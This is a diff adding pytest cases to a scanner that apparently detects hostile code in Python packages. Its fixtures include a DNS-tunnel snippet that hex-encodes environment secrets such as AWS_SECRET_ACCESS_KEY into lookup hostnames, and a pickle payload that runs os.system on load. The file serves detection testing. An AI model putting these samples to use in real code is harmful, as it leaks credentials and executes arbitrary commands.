@@ -218,3 +218,28 @@ def test_what_signs_a_request_is_no_first_place_for_a_secret(library: str, found
         "    return requests.get('https://api.bluebird.example/2/me', auth=auth, headers={'x': access_token})\n"
     )
     assert stopped({"acmelib/__init__.py": source}) is found
+
+
+@pytest.mark.parametrize(
+    ("secret", "found"),
+    [
+        ("", False),
+        ("os.environ['AWS_SECRET_ACCESS_KEY']", True),
+        ("os.environ['BUILD_LABEL']", True),
+        ("str(os.environ)", True),
+    ],
+)
+def test_a_name_without_a_zone_is_a_tunnel_where_an_import_has_something_to_say(
+    secret: str, found: bool
+) -> None:
+    source = (
+        "import os, socket\nfrom acmenet import zone\n"
+        "def ask(session_secret=None):\n    return socket.getaddrinfo(session_secret.encode().hex() + zone(), 53)\n"
+        f"try:\n    ask({secret})\nexcept OSError:\n    pass\n"
+    )
+    assert stopped({"acmelib/__init__.py": source}) is found
+
+
+@pytest.mark.parametrize(("data", "found"), [("b''", False), ("b'cos\\nsystem\\n(Vid\\ntR.'", True)])
+def test_an_empty_text_is_no_broken_pickle(data: str, found: bool) -> None:
+    assert stopped({"acmelib/__init__.py": f"import pickle\npickle.loads({data})\n"}) is found
